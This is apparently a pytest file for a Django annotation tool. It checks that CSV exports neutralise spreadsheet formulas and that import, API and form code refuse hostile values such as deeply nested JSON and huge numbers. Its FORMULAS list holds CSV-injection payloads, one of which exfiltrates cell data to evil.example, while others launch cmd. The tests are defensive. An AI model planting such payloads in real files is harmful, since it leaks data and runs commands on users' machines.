"""Issue 15: hostile values get a refusal that names the field, never a 500 or a formula.

Each test here failed on the code before the fix it guards.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections import Counter
from datetime import UTC, datetime
from io import StringIO

import numpy as np
import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.urls import reverse
from rest_framework.test import APIClient

from annotate.grading import queue, queue_pairs
from annotate.imports.exporting import LABEL_COLUMNS, write_labels
from annotate.imports.importing import ImportFailed, import_file
from annotate.models import (
    Annotation,
    Arm,
    Assignment,
    Dimension,
    Label,
    Prompt,
    Region,
    Response,
    Study,
)
from tests.annotate.grading.queue_helpers import GOOD_LABELS, add_responses, fake_selection_rule
from tests.annotate.imports.import_helpers import interaction, jsonl, snapshot

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def api_client(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


# --------------------------------------------------------------------------- 1. CSV export


def _hostile_labels(study, annotator, payload: str) -> None:
    """One live graded annotation whose every user-controlled text starts a formula."""
    import_file(jsonl(interaction(1)), study=study, filename="a.jsonl")
    Prompt.objects.filter(study=study).update(external_id=payload)
    # Keys are unique per study: a suffix keeps them apart and the formula first.
    for model in (Region, Arm, Dimension):
        for i, pk in enumerate(model.objects.filter(study=study).values_list("pk", flat=True)):
            model.objects.filter(pk=pk).update(key=f"{payload}{i}")
    Study.objects.filter(pk=study.pk).update(slug="-2-3")
    get_user_model().objects.filter(pk=annotator.pk).update(username=payload[:150])
    study.refresh_from_db()
    annotation = Annotation.objects.create(
        response=Response.objects.filter(study=study).first(),
        annotator=annotator,
        study=study,
        created_at=datetime(2026, 12, 1, 9, 0, tzinfo=UTC),
    )
    for d in study.dimensions.all():
        Label.objects.create(annotation=annotation, dimension=d, value=1)


def _cells(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == LABEL_COLUMNS and len(rows) == 4
    return rows[1:]


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_exported_csv_cell_starts_a_formula(study, annotator, payload):
    _hostile_labels(study, annotator, payload)
    out = io.StringIO()
    write_labels(study=study, fmt="csv", out=out)
    for row in _cells(out.getvalue()):
        assert not [c for c in row if c.startswith(FORMULA_STARTS)], row
        # The text is kept, after the quote that tells the spreadsheet it is text.
        assert row[LABEL_COLUMNS.index("prompt_id")] == "'" + payload
        assert row[LABEL_COLUMNS.index("annotator")] == "'" + payload[:150]
        assert row[LABEL_COLUMNS.index("study")] == "'-2-3"


def test_exportlabels_and_the_api_write_the_same_safe_csv(study, annotator, admin_user):
    _hostile_labels(study, annotator, FORMULAS[0])
    out = StringIO()
    call_command("exportlabels", f"--study={study.slug}", stdout=out)
    response = api_client(admin_user).get(f"/api/studies/{study.slug}/labels.csv")
    body = b"".join(response.streaming_content).decode()
    assert _cells(body) == _cells(out.getvalue())
    assert all(not c.startswith(FORMULA_STARTS) for row in _cells(body) for c in row)


def test_the_jsonl_export_keeps_ids_as_imported(study, annotator):
    _hostile_labels(study, annotator, FORMULAS[0])
    out = io.StringIO()
    write_labels(study=study, fmt="jsonl", out=out)
    assert json.loads(out.getvalue().splitlines()[0])["prompt_id"] == FORMULAS[0]


# --------------------------------------------------------------------------- 2. partner via API


@pytest.fixture
def sbs(study) -> Study:
    Study.objects.filter(pk=study.pk).update(side_by_side=True, overlap_share=0)
    study.refresh_from_db()
    return study


def _api_next(user, study) -> dict:
    res = api_client(user).post(reverse("annotate-api-next", kwargs={"slug": study.slug}))
    assert res.status_code == 200, res.content
    return res.json()


def _api_submit(user, assignment_id: int) -> None:
    url = reverse("annotate-api-submit", kwargs={"assignment_id": assignment_id})
    res = api_client(user).post(
        url, {"client_key": str(uuid.uuid4()), "labels": GOOD_LABELS}, format="json"
    )
    assert res.status_code == 201, res.content


def test_the_api_serves_the_first_pick_of_a_page_pair_never_its_partner(sbs, annotator):
    add_prompts(sbs, 8)
    rng = np.random.default_rng(15)
    pairs = Counter()
    for _ in range(8):
        pair = queue_pairs.next_pair(study=sbs, annotator=annotator, rng=rng)
        if not isinstance(pair, queue_pairs.Pair):
            queue.submit_annotation(
                assignment_id=pair.pk, annotator=annotator, client_key=uuid.uuid4(),
                labels=GOOD_LABELS,
            )  # fmt: skip
            continue
        partner = next(h for h in pair.halves if h.policy == Assignment.Policy.PARTNER)
        first = next(h for h in pair.halves if h is not partner)
        served = _api_next(annotator, sbs)["assignment_id"]
        assert served == first.pk != partner.pk
        assert _api_next(annotator, sbs)["assignment_id"] == first.pk  # stable on a retry
        _api_submit(annotator, served)
        # The next API item is a new pick: the partner stays the page's.
        after = _api_next(annotator, sbs)["assignment_id"]
        assert after not in (first.pk, partner.pk)
        assert Assignment.objects.get(pk=after).policy != Assignment.Policy.PARTNER
        _api_submit(annotator, after)
        # The page still shows the partner (alone now) and grades it.
        again = queue_pairs.next_pair(study=sbs, annotator=annotator, rng=rng)
        assert isinstance(again, Assignment) and again.pk == partner.pk
        queue.submit_annotation(
            assignment_id=partner.pk, annotator=annotator, client_key=uuid.uuid4(),
            labels=GOOD_LABELS,
        )  # fmt: skip
        pairs["pairs"] += 1
    assert pairs["pairs"] >= 3


def test_the_api_serves_the_earlier_half_of_an_overlap_pair(sbs, annotator):
    from tests.annotate.grading.queue_helpers import add_annotator

    add_prompts(sbs, 1, arms=list(sbs.arms.order_by("position")[:2]))
    dora = add_annotator(sbs, "dora")
    graded = queue_pairs.next_pair(study=sbs, annotator=dora)
    queue_pairs.submit_pair(
        pair_key=graded.key, annotator=dora, client_key=uuid.uuid4(),
        labels={queue_pairs.LEFT: GOOD_LABELS, queue_pairs.RIGHT: GOOD_LABELS},
    )  # fmt: skip
    Study.objects.filter(pk=sbs.pk).update(overlap_share=0.99, label_budget=3)
    second = queue_pairs.next_pair(study=sbs, annotator=annotator, rng=np.random.default_rng(5))
    assert isinstance(second, queue_pairs.Pair)
    assert [h.policy for h in second.halves] == ["overlap", "overlap"]
    first = min(second.halves, key=lambda h: (h.leased_at, h.pk))
    assert _api_next(annotator, sbs)["assignment_id"] == first.pk


def add_prompts(study: Study, n: int, *, arms: list[Arm] | None = None) -> list[list[Response]]:
    from tests.annotate.grading.test_side_by_side import add_prompts as build

    return build(study, n, arms=arms)


# --------------------------------------------------------------------------- 3. hostile lines


def _line_with(study, **replace: str) -> str:
    """interaction(1) as JSON text, with raw JSON spliced in for some placeholders."""
    line = interaction(1, metadata={"deep": "@META@"})
    line["responses"]["cand1"]["metadata"] = {"nested": "@RMETA@"}
    line["responses"]["cand1"]["scores"]["correctness"] = "@SCORE@"
    text = json.dumps(line)
    defaults = {"META": "1", "RMETA": "1", "SCORE": "1", "ID": '"q-000001"'}
    text = text.replace('"q-000001"', "@ID@")
    for name, raw in {**defaults, **replace}.items():
        text = text.replace(f'"@{name}@"' if name != "ID" else "@ID@", raw)
    return text


def _refused(study, text: str) -> list[tuple[int, str, str]]:
    before = snapshot(study)
    with pytest.raises(ImportFailed) as info:
        import_file(io.BytesIO(text.encode() + b"\n"), study=study, filename="bad.jsonl")
    assert snapshot(study) == before
    return [(p.line, p.field, p.message) for p in info.value.problems]


DEEP = "[" * 1500 + "]" * 1500  # a 3 KB value, 1,500 levels deep


@pytest.mark.parametrize(
    ("splice", "field", "message"),
    [
        ({"META": DEEP}, "metadata.deep", "nested deeper than 64 levels"),
        ({"RMETA": DEEP}, "responses.cand1.metadata.nested", "nested deeper than 64"),
        ({"SCORE": DEEP}, "responses.cand1.scores.correctness", "nested deeper than 64"),
        ({"SCORE": "9" * 5000}, "responses.cand1.scores.correctness", "out of range"),
        ({"SCORE": "-" + "9" * 5000}, "responses.cand1.scores.correctness", "out of range"),
        ({"SCORE": "1e400"}, "responses.cand1.scores.correctness", "out of range"),
        ({"SCORE": "NaN"}, "responses.cand1.scores.correctness", "NaN is not a number"),
        ({"META": "9" * 5000}, "metadata.deep", "out of range"),
        ({"META": "[1, -1e999]"}, "metadata.deep[1]", "-inf is out of range"),
        ({"RMETA": "Infinity"}, "responses.cand1.metadata.nested", "out of range"),
        ({"ID": "9" * 5000}, "id", "a number is not a string"),
    ],
)
def test_a_hostile_line_is_refused_naming_its_line_and_field(study, splice, field, message):
    problems = _refused(study, _line_with(study, **splice))
    assert len(problems) == 1
    line, got_field, got_message = problems[0]
    assert (line, got_field) == (1, field) and message in got_message, problems


def test_a_line_nested_1500_deep_at_the_top_is_refused_as_a_line(study):
    assert _refused(study, DEEP) == [(1, "line", "JSON nested deeper than 64 levels")]


def test_metadata_nested_64_levels_deep_is_imported(study):
    deep = {"v": 1}
    for _ in range(62):  # the line's own object and metadata's make 64
        deep = {"v": deep}
    import_file(jsonl(interaction(1, metadata=deep)), study=study, filename="ok.jsonl")
    assert Prompt.objects.get(study=study).metadata["v"]["v"]["v"]


def test_an_upload_job_with_a_hostile_line_fails_with_its_problem_not_an_internal_error(
    study, admin_user, settings, tmp_path
):
    from django.core.files.base import ContentFile

    from annotate.imports.services import run_import_job
    from annotate.models import ImportJob

    settings.MEDIA_ROOT = tmp_path
    data = (_line_with(study, META=DEEP) + "\n" + _line_with(study, SCORE="9" * 5000)).encode()
    job = ImportJob(study=study, uploaded_by=admin_user, filename="x.jsonl", bytes_total=len(data))
    job.file.save("x.jsonl", ContentFile(data), save=True)
    job = run_import_job(job_id=job.pk)
    assert job.status == ImportJob.Status.FAILED
    assert "internal error" not in job.error_message
    assert [line.split(": ")[1] for line in job.problem_lines()] == [
        "metadata.deep",
        "responses.cand1.scores.correctness",
    ]


# --------------------------------------------------------------------------- 4. odd values


@pytest.fixture
def solo(study, monkeypatch):
    fake_selection_rule(monkeypatch)
    Study.objects.filter(pk=study.pk).update(overlap_share=0)
    add_responses(study, 3)
    return study


@pytest.mark.parametrize(("spent", "status"), [(10**20, 400), (2**31, 400), (2**31 - 1, 201)])
def test_an_api_time_spent_beyond_the_column_is_refused_by_name(solo, annotator, spent, status):
    assignment_id = _api_next(annotator, solo)["assignment_id"]
    res = api_client(annotator).post(
        reverse("annotate-api-submit", kwargs={"assignment_id": assignment_id}),
        {"client_key": str(uuid.uuid4()), "labels": GOOD_LABELS, "time_spent_ms": spent},
        format="json",
    )
    assert res.status_code == status, res.content
    if status == 400:
        assert list(res.json()) == ["time_spent_ms"]
    else:
        assert Annotation.objects.get().time_spent_ms == spent


@pytest.mark.parametrize("raw", ["²", "9" * 5000])
def test_the_page_undo_answers_404_to_an_id_that_is_not_one(client, solo, annotator, raw):
    client.force_login(annotator)
    url = reverse("annotate-grade-undo", kwargs={"slug": solo.slug})
    assert client.post(url, {"annotation_id": raw}).status_code == 404


def _regions(study, share: str) -> dict:
    from tests.annotate.setup.test_setup import regions_data

    eu, us = study.regions.order_by("position")
    return regions_data([(eu.pk, "eu", share), (us.pk, "us", "0.4")], initial=2)


@pytest.mark.parametrize("share", ["9e9999999", "-9e9999999", "1e1000000000", "sNaN", "-sNaN"])
def test_a_region_share_too_big_for_decimals_is_refused_by_field(client, admin_user, study, share):
    client.force_login(admin_user)
    url = reverse("annotate-setup-regions", kwargs={"slug": study.slug})
    before = snapshot(study)
    r = client.post(url, _regions(study, share))
    assert r.status_code == 200
    assert "traffic_share" in r.context["formset"].forms[0].errors
    live = client.post(url + "?preview=1", _regions(study, share), headers={"HX-Request": "true"})
    assert live.status_code == 200 and 'id="share-total"' in live.content.decode()
    assert snapshot(study) == before


@pytest.mark.parametrize("cuts", ["nan", "inf", "-inf", "1e400", "-Infinity", "NaN"])
def test_judge_cut_points_must_be_finite(client, admin_user, study, cuts):
    from tests.annotate.setup.test_setup import dimension_data

    client.force_login(admin_user)
    d = study.dimensions.get(key="correctness")
    data = dimension_data(
        d, judge_score_type="continuous", judge_bins="2", judge_min="", judge_max="",
        judge_cuts_text=cuts,
    )  # fmt: skip
    url = reverse("annotate-setup-dimension", kwargs={"slug": study.slug, "dimension_id": d.pk})
    r = client.post(url, data)
    assert r.status_code == 200
    assert "is not a finite number" in " ".join(r.context["form"].errors["judge_cuts_text"])
    d.refresh_from_db()
    assert d.judge_cuts != [float(cuts)]
